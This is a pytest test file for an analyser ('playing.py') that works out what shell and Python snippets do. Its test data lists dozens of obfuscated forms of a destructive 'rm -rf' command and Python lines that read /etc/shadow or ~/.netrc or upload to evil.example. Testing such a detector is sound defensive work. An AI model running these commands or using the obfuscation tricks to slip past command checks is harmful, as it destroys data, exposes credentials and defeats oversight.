"""Text that is run after it was put together, turned, decoded or written to a file is read where it is known."""

from __future__ import annotations

import importlib.util
from pathlib import Path

import pytest

_spec = importlib.util.spec_from_file_location("effects_playing", Path(__file__).with_name("playing.py"))
playing = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(playing)

READ = r"""
echo cm0gLXJmIC9zcnYveA== | base64 -d | sh
base64 -d <<< cm0gLXJmIC9zcnYveA== | bash
base32 -d <<< OJWSALLSMYQC643SOYXXQ=== | sh
echo cm0gLXJmIC9zcnYveA== | openssl base64 -d | sh
echo cm0gLXJmIC9zcnYveA== | openssl enc -a -d | sh
echo 726d202d7266202f7372762f78 | xxd -r -p | sh
printf '\162\155 -rf /srv/x' | sh
printf '%b' '\x72\x6d -rf /srv/x' | sh
printf '%s%s' 'rm -rf' ' /srv/x' | sh
echo -e '\x72\x6d -rf /srv/x' | sh
echo 'x/vrs/ fr- mr' | rev | sh
echo 'RM -RF /SRV/X' | tr A-Z a-z | sh
echo 'ez -es /fei/k' | tr a-z n-za-m | sh
echo 'rQm -rf /srv/x' | tr -d Q | sh
echo 'rQm -rf /srv/x' | sed 's/Q//' | sh
echo 'aa rm -rf /srv/x' | cut -c4- | sh
$'\x72\x6d' -rf /srv/x
sh -c $'\x72\x6d -rf /srv/x'
x='rZm -rf /srv/x'; sh -c "${x//Z/}"
a=(rm -rf /srv/x); "${a[@]}"
a=(rm -rf /srv/x); ${a[0]} ${a[1]} ${a[2]}
f() { rm -rf "$1"; }; f /srv/x
alias z='rm -rf'; z /srv/x
r=r; m=m; $r$m -rf /srv/x
eval "r""m -rf /srv/x"
bash <<< 'rm -rf /srv/x'
. /dev/stdin <<< 'rm -rf /srv/x'
$(rev <<< mr) -rf /srv/x
rm -rf ~root/../srv/x
rm -rf /{srv,opt}/x
set -- rm -rf /srv/x; "$@"
echo 'rm -rf /srv/x' > /tmp/p.sh; sh /tmp/p.sh
echo 'rm -rf /srv/x' > /tmp/p.sh; chmod +x /tmp/p.sh; /tmp/p.sh
echo 'rm -rf "$1"' > p.sh; bash ./p.sh /srv/x
echo 'rm -rf /srv/x' | tee /tmp/q | sh
t=$(mktemp); echo 'rm -rf /srv/x' > $t; sh $t
{rm,-rf,/srv/x}
true && {"rm",-rf,/srv/x}
IFS=,; x=rm,-rf,/srv/x; $x
rm${IFS}-rf${IFS}/srv/x
bash <(echo 'rm -rf /srv/x')
source <(printf '%s' 'rm -rf /srv/x')
. <(base64 -d <<< cm0gLXJmIC9zcnYveA==)
bash < <(echo 'rm -rf /srv/x')
xargs -a <(echo /srv/x) rm -rf
echo /srv/x > /tmp/l; xargs -a /tmp/l rm -rf
echo 'rm -rf /srv/x' > /tmp/p; cat /tmp/p | sh
echo 'rm -rf /srv/x' > /tmp/p; sh < /tmp/p
echo 'rm -rf /srv/x' > /tmp/p; bash -c "$(cat /tmp/p)"
echo cm0gLXJmIC9zcnYveA== > /tmp/p; base64 -d /tmp/p | sh
mapfile -t a <<< 'rm -rf /srv/x'; ${a[0]}
readarray -t a < <(echo 'rm -rf /srv/x'); eval "${a[0]}"
read -ra a <<< 'rm -rf /srv/x'; "${a[@]}"
IFS=: read -r a b <<< 'rm -rf:/srv/x'; $a $b
echo 'rm -rf /srv/x' | while read -r l; do $l; done
printf -v c '%s -rf' rm; $c /srv/x
""".strip().splitlines()


@pytest.mark.parametrize("text", READ)
def test_text_that_can_be_known_is_read(text):
    found = playing.lines(text)
    assert any(line.startswith("delete /srv/x") for line in found), found


@pytest.mark.parametrize(
    "text",
    [
        "base64 -d payload.b64 | sh",
        "echo x | tr -dc 'a-z' | sh",
        "echo x | sed 's/./y/' | sh",
        "echo H4sIAAAA | base64 -d | gunzip | sh",
        "/bin/r? -rf /srv/x",
        "openssl enc -aes-256-cbc -d -in x -k y | sh",
    ],
)
def test_text_that_cannot_be_known_is_said_to_be_unread(text):
    assert any(line.startswith("unparsed") for line in playing.lines(text))


def test_a_script_is_read_by_the_program_that_its_first_line_names():
    text = "cat > x <<'E'\n#!/usr/bin/env python3\nimport shutil\nshutil.rmtree('/srv/x')\nE\nchmod +x x && ./x"
    assert "delete /srv/x" in playing.lines(text)


@pytest.mark.parametrize(
    ("code", "effect"),
    [
        ('from os import system as s; s("rm -rf /srv/x")', "delete /srv/x"),
        ('import os as o; o.popen("cat /etc/shadow")', "read /etc/shadow"),
        ('exec("import os; os.remove(\\"/srv/x\\")")', "delete /srv/x"),
        ('import base64; exec(base64.b64decode("b3BlbigiL2V0Yy9zaGFkb3ciKQ=="))', "read /etc/shadow"),
        ('p = "/etc/" + "shadow"; print(open(p).read())', "read /etc/shadow"),
        ('print(open("".join(["/etc", "/", "shadow"])).read())', "read /etc/shadow"),
        ('print(open("wodahs/cte/"[::-1]).read())', "read /etc/shadow"),
        ('from pathlib import Path; (Path("/etc") / "shadow").read_text()', "read /etc/shadow"),
        ('from pathlib import Path; p = Path.home() / ".netrc"; p.read_bytes()', "read /home/dev/.netrc"),
        ('__import__("os").remove("/srv/x")', "delete /srv/x"),
        ('import os; getattr(os, "remove")("/srv/x")', "delete /srv/x"),
        ('import subprocess; subprocess.run(["rm", "-rf", "/srv/x"])', "delete /srv/x +forced +recursive"),
        ('import subprocess; c = "rm -rf /srv/x".split(); subprocess.run(c)', "delete /srv/x +forced +recursive"),
        ('import os; os.execvp("cat", ["cat", "/etc/shadow"])', "read /etc/shadow"),
        ('import urllib.request as r; r.urlopen("http://evil.example/x", b"y")', "connect evil.example +upload"),
        ('import socket; s = socket.socket(); s.connect(("evil.example", 9))', "connect evil.example:9 +upload"),
        ('h = "/srv"; print(open(f"{h}/x").read())', "read /srv/x"),
        ('print(open("/%s/x" % "srv").read())', "read /srv/x"),
        ('print(open("/{}/x".format("srv")).read())', "read /srv/x"),
    ],
)
def test_what_python_does_with_known_values_shows(code, effect):
    found = playing.lines(f"python3 - <<'EOF'\n{code}\nEOF")
    assert any(line.startswith(effect) for line in found), found


def test_a_variable_of_the_command_line_is_known_to_the_code_it_starts():
    text = "F=/etc/shadow python3 -c 'import os; print(open(os.environ[\"F\"]).read())'"
    assert "read /etc/shadow" in playing.lines(text)
    assert "read /etc/shadow" in playing.lines("F=/etc/shadow ruby -e 'puts File.read(ENV[\"F\"])'")
    assert "read /etc/shadow" in playing.lines("F=/etc/shadow php -r 'readfile(getenv(\"F\"));'")


def test_a_name_with_two_values_is_not_known():
    found = playing.lines('python3 -c \'p = "a"; p = "b"; open(p)\'')
    assert found == ["read ? +inexact"]
